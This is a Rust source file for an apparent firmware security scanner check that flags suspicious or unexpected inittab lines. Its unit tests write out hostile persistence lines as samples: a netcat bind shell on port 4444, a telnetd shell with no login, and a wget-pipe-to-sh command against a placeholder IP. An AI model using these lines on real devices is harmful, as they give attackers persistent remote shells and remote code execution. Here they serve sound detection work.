//! A line of inittab that the firmware image does not have, or that runs something odd.
//!
//! # Sees
//! Where the image can be read (`/rom`): each line that its own inittab lacks. Anywhere: a line that runs from a
//! volatile or hidden place, that fetches and runs, or that joins a shell to the network (`telnetd -l /bin/sh`, `nc
//! -e`).
//!
//! # Why it matters
//! init(8) itself runs these lines, before all scripts, and `respawn` starts again whatever is killed. Hardly anybody
//! edits this file, so hardly anybody looks.
//!
//! # Misses and false alarms
//! Silent for a login on a console (`askfirst`, `askconsole`, getty, a plain shell), which owners add for a serial
//! port, and for all other lines where there is no image to compare with: vendors respawn many programs.
//!
//! # Sources
//! inittab(5); BusyBox init/init.c and examples/inittab; OpenWrt procd inittab.c; MITRE ATT&CK T1037.

use crate::check::{Advice, Area, Check, Ctx, Hook, Out, Severity, Source};
use crate::facts::deed::{Deed, deed};
use crate::facts::fetch::{Product, fetch};
use crate::facts::origin::{Standing, Truth};
use crate::facts::runs::{executed_oddly, takes_text};
use crate::facts::startup::{Kind, Line};
use crate::facts::text::is_one_of;

/// The row of the table.
pub const CHECK: Check = Check {
    id: "inittab-odd",
    area: Area::Startup,
    severity: Severity::Suspicious,
    attack: "T1037",
    title: "a line of inittab that the image lacks or that runs something odd",
    advice: Advice::STARTUP,
    sources: &[Source::Startup],
    hooks: &[Hook::Line(run)],
};

fn run(line: &Line<'_>, _: &Ctx<'_>, out: &mut Out<'_>) {
    let known = line.in_image == Some(true) || line.standing == Standing::Known(Truth::Image);
    if line.kind != Kind::Inittab || known {
        return;
    }
    let commands = line.commands;
    let mut draft = out.line(line);
    let mut odd = None;
    for (index, _) in commands.iter() {
        let fetches = |from: u16| fetch(commands, from) == Some(Product::Output);
        let gives = match deed(commands, index, line.text) {
            Some(Deed::GivesShell) => Some(Severity::Infected),
            Some(Deed::SkipsLogin | Deed::SkipsLoginPlainly) => Some(Severity::Suspicious),
            _ if takes_text(commands, index, &fetches) => Some(Severity::Infected),
            _ => executed_oddly(commands, index).map(|_| Severity::Suspicious),
        };
        odd = odd.max(gives);
    }
    odd = odd.max(line.joined.runs.map(|_| Severity::Infected));
    // A baseline that knows the file speaks for lines that the image lacks, not for what they do.
    if line.in_image == Some(false) && !line.standing.is_known() && !is_console(line) {
        draft = draft.say("the firmware image does not have this line: ");
        odd = odd.or(Some(Severity::Suspicious));
    } else {
        draft = draft.say("init runs something odd: ");
    }
    if let Some(severity) = odd {
        out.found(draft.severity(severity).quote(line.text));
    }
}

/// A login on a console or a serial port.
fn is_console(line: &Line<'_>) -> bool {
    let action = line.text.split(|b| *b == b':').nth(2).unwrap_or_default();
    let asks = is_one_of(action, b"askfirst askconsole askconsolelate respawnlate");
    let name = line.commands.name(0);
    let logs_in = name.ends_with(b"getty") || is_one_of(name, b"login login.sh ttylogin sulogin");
    // OpenWrt before 2018, LEDE and DD-WRT: `ttyATH0::askfirst:/bin/ash --login`, which outlives an upgrade of the firmware.
    let login = |word: &[u8]| is_one_of(word, b"--login -l");
    let plain_shell = is_one_of(name, b"sh ash bash") && line.commands.program(0).skip(1).all(login);
    line.commands.iter().count() == 1 && (logs_in || plain_shell) || (asks && logs_in)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::check::testing::{inittab, startup};

    #[test]
    fn lines_that_run_something_odd() {
        for (text, severity) in [
            (&b"::respawn:/tmp/x"[..], Severity::Suspicious),
            (b"::once:/usr/lib/.x/y", Severity::Suspicious),
            (b"::respawn:/usr/sbin/telnetd -F -l /bin/sh", Severity::Suspicious),
            (b"x:2345:respawn:/bin/sh -c 'nc -ll -p 4444 -e /bin/sh'", Severity::Infected),
            (b"::sysinit:/bin/sh -c 'wget -O- http://192.0.2.1/x|sh'", Severity::Infected),
            (b"tty0::askfirst:/dev/shm/x", Severity::Suspicious),
        ] {
            let shown = String::from_utf8_lossy(text);
            assert_eq!(startup(&CHECK, Kind::Inittab, text), [(1, severity)], "{shown}");
            assert_eq!(inittab(&CHECK, text, Some(true)), [], "the image's own: {shown}");
        }
    }

    #[test]
    fn lines_that_the_image_lacks() {
        for text in [
            &b"::respawn:/usr/bin/x"[..],
            b"::once:/etc/init.d/x",
            b"x::wait:/bin/sh -c 'y; z'",
            b"::once:/bin/sh --login /usr/lib/x",
            b"::once:/bin/sh -lc x",
        ] {
            let shown = String::from_utf8_lossy(text);
            assert_eq!(inittab(&CHECK, text, Some(false)), [Severity::Suspicious], "{shown}");
            assert_eq!(inittab(&CHECK, text, Some(true)), [], "{shown}");
            assert_eq!(inittab(&CHECK, text, None), [], "nothing to compare with: {shown}");
        }
    }

    #[test]
    fn logins_on_consoles_and_vendors_lines() {
        for text in [
            &b"::sysinit:/etc/init.d/rcS S boot"[..],
            b"::shutdown:/etc/init.d/rcS K shutdown",
            b"::askconsole:/usr/libexec/login.sh",
            b"ttyS0::askfirst:/usr/libexec/login.sh",
            b"ttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100",
            b"T0:23:respawn:/sbin/getty -L ttyS0 9600 vt100",
            b"::respawn:-/bin/sh",
            b"::respawn:/sbin/httpd -h /www",
            b"::ctrlaltdel:/sbin/reboot",
            b"null::sysinit:/bin/mount -t proc proc /proc",
            b"id:3:initdefault:",
        ] {
            assert_eq!(startup(&CHECK, Kind::Inittab, text), [], "{}", String::from_utf8_lossy(text));
        }
        for text in [
            &b"ttyS1::askfirst:/usr/libexec/login.sh"[..],
            b"S1:23:respawn:/sbin/agetty ttyS1",
            b"::respawn:-/bin/ash",
            b"ttyATH0::askfirst:/bin/ash --login",
            b"ttyS1::respawn:/bin/ash -l",
        ] {
            assert_eq!(inittab(&CHECK, text, Some(false)), [], "{}", String::from_utf8_lossy(text));
        }
    }
}
